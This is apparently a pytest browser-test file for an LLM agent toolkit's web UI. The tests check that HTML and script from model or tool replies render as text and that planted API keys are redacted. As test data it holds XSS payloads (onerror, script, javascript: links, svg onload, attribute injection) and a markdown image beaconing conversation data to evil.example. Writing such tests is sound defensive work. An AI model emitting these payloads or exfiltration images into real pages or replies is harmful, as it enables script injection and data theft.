"""What the page must never do: run a script a model or tool wrote, or show a secret."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import httpx
import pytest

import llmkit
from llmkit import Agent, tool
from llmkit.testing import FakeProviderServer, ScriptedModel, tool_call

pytestmark = pytest.mark.browser

PAYLOADS = (
    "<img src=x onerror=\"window.__xss=1;document.body.append(document.createElement('xss-node'))\">\n\n"
    "<script>window.__xss=2</script>\n\n"
    "[click me](javascript:window.__xss=3) and ![pic](javascript:window.__xss=4)\n\n"
    '[fine](https://ok.example/"onmouseover="window.__xss=5) **<b>bold</b>** `<i>code</i>`\n\n'
    '<iframe src="javascript:parent.__xss=6"></iframe>'
)


@tool
def page_title(url: str) -> str:
    """The title of a web page."""
    return '<svg onload="window.__xss=7"></svg><script>window.__xss=8</script>A title'


def test_html_and_script_from_a_model_or_a_tool_render_as_text(ui: Any) -> None:
    with FakeProviderServer([tool_call("page_title", url="https://x.example"), PAYLOADS]) as fake:
        model = llmkit.model(
            "openai/gpt-4.1-mini", base_url=fake.openai_base_url, api_key="offline"
        )
        agent = Agent(model, name="browser", tools=[page_title])
        with ui.served(agent) as server:
            ui.open(server.url)
            ui.send("What is on that page?")
            ui.run_status("complete")
            driver = ui.driver
            for summary in driver.find_elements("css selector", ".timeline summary"):
                summary.click()  # every raw view open, too
            assert driver.execute_script("return window.__xss") is None
            assert driver.execute_script("return window.parent.__xss") is None
            for tag in ("xss-node", "script", "iframe", "svg", "b", "i", "img"):
                found = driver.find_elements("css selector", f"main {tag}")
                assert found == [], f"a <{tag}> element made it onto the page"
            assert not driver.find_elements("css selector", 'a[href^="javascript"]')
            answer = ui.text(".message.assistant")
            assert "<script>window.__xss=2</script>" in answer  # shown as text
            assert "<img src=x onerror=" in answer
            assert "[click me](javascript:window.__xss=3)" in answer
            assert "<b>bold</b>" in answer and "<i>code</i>" in answer
            # The one safe link stays a link whose address kept its quote inside.
            (link,) = driver.find_elements("css selector", ".message.assistant a")
            assert link.get_attribute("href").startswith("https://ok.example/")
            assert link.get_attribute("onmouseover") is None
            assert '<svg onload="window.__xss=7"></svg>' in ui.text(".entry.tool .result")


PLANTED = "sk-" + "planted-not-a-key-" + "P" * 12


def test_no_byte_the_ui_serves_holds_the_api_key(ui: Any, tmp_path: Path) -> None:
    # A recording whose tool result holds a key (as a file written by hand could).
    line = {
        "topic": "tool.result",
        "t": 0.2,
        "run_id": "r1",
        "step": 1,
        "result": {
            "type": "tool_result",
            "call_id": "c1",
            "content": f"key={PLANTED}",
            "name": "leak",
        },
    }
    header = {"llmkit_recording": 1, "llmkit": llmkit.__version__, "created": 0}
    start = {"topic": "run.start", "t": 0.0, "run_id": "r1", "agent": "a", "input": []}
    (tmp_path / "leaky.jsonl").write_text(
        "\n".join(json.dumps(x) for x in (header, start, line)) + "\n"
    )

    script = [tool_call("page_title", url="https://x.example"), "It is called A title."]
    with FakeProviderServer(script) as fake:
        model = llmkit.model("openai/gpt-4.1-mini", base_url=fake.openai_base_url, api_key=PLANTED)
        agent = Agent(model, name="browser", tools=[page_title])
        with ui.served(agent, recordings=tmp_path) as server:
            ui.open(server.url)
            ui.send("What is on that page?")
            ui.run_status("complete")
            for summary in ui.driver.find_elements("css selector", ".timeline summary"):
                summary.click()
            ui.wait_for(lambda d: ui.text(".raw-request pre"), "the raw request")
            seen = [ui.driver.page_source]
            run_id = ui.driver.execute_script("return location.hash").removeprefix("#run=")

            headers = {"Authorization": f"Bearer {ui.TOKEN}"}
            with httpx.Client(base_url=server.url, headers=headers) as client:
                assets = [
                    "/ui/",
                    "/ui/app.js",
                    "/ui/api.js",
                    "/ui/chat.js",
                    "/ui/dom.js",
                    "/ui/markdown.js",
                    "/ui/recordings.js",
                    "/ui/report.js",
                    "/ui/runs.js",
                    "/ui/timeline.js",
                    "/ui/workflow.js",
                    "/ui/style.css",
                ]
                paths = [
                    *assets,
                    "/ui/api/info",
                    "/ui/api/recordings",
                    "/ui/api/recordings/leaky.jsonl",
                    "/v1/models",
                    "/v1/runs",
                    f"/v1/runs/{run_id}",
                    f"/v1/runs/{run_id}/events",
                ]
                for path in paths:
                    answer = client.get(path)
                    assert answer.status_code == 200, path
                    seen.append(answer.text)
                assert "[redacted]" in client.get("/ui/api/recordings/leaky.jsonl").text
        # The key was in play: the model's provider got it.
        assert all(r.headers["authorization"] == f"Bearer {PLANTED}" for r in fake.requests)
    leaks = [text[:200] for text in seen if PLANTED in text or "planted-not-a-key" in text]
    assert leaks == []


NESTED = (
    "[a](https://x.example/![i onmouseover=window.__xss=9 id=injected data-pwn=1 "
    "ping=https://evil.example/p tabindex=0](https://img.example/p.png))\n\n"
    "![track](https://evil.example/leak?d=conversation)"
)


def test_an_image_inside_a_link_address_adds_no_attribute_and_remote_images_wait_for_a_click(
    ui: Any,
) -> None:
    with ui.served(ui.echo_agent(NESTED)) as server:
        ui.open(server.url)
        ui.send("hi")
        ui.run_status("complete")
        driver = ui.driver
        assert driver.find_elements("css selector", "#injected, [data-pwn], [ping]") == []
        for link in driver.find_elements("css selector", ".message.assistant a"):
            names = driver.execute_script(
                "return Array.from(arguments[0].attributes).map(a => a.name).sort()", link
            )
            assert names == ["href", "rel", "target"]
        assert driver.find_elements("css selector", ".message.assistant img") == []
        buttons = driver.find_elements("css selector", ".message.assistant button.remote-image")
        assert [b.text for b in buttons][-1] == "Show image “track” from evil.example"
        buttons[-1].click()
        (image,) = driver.find_elements("css selector", ".message.assistant img")
        assert image.get_attribute("src") == "https://evil.example/leak?d=conversation"
        assert image.get_attribute("alt") == "track"


KEY = "sk-" + "planted-env-not-a-key-" + "e" * 10


@tool
def read_config(name: str) -> str:
    """A config value."""
    import os

    return f"value of {name}: {os.environ[name]} ({KEY})"


@tool(errors="raise")
def call_api(q: str) -> str:
    """Calls an API."""
    import os

    raise RuntimeError(f"401 from https://api.example/v1?key={os.environ['MYAPP_API_KEY']}")


def test_a_key_in_a_tool_result_or_an_exception_message_is_redacted_on_the_page(
    ui: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("MYAPP_API_KEY", "env-value-PLANTED-0042")
    script = [tool_call("read_config", name="MYAPP_API_KEY"), tool_call("call_api", q="x")]
    agent = Agent(ScriptedModel(script), name="cfg", tools=[read_config, call_api])
    with ui.served(agent) as server:
        ui.open(server.url)
        ui.send("show config")
        ui.run_status("failed")
        for summary in ui.driver.find_elements("css selector", ".timeline summary"):
            summary.click()
        ui.wait_for(lambda d: ui.text(".entry.error"), "the error entry")
        source = ui.driver.page_source
        assert "[redacted]" in ui.text(".entry.tool .result")
        assert "[redacted]" in ui.text(".entry.error")
        assert KEY not in source and "env-value-PLANTED-0042" not in source
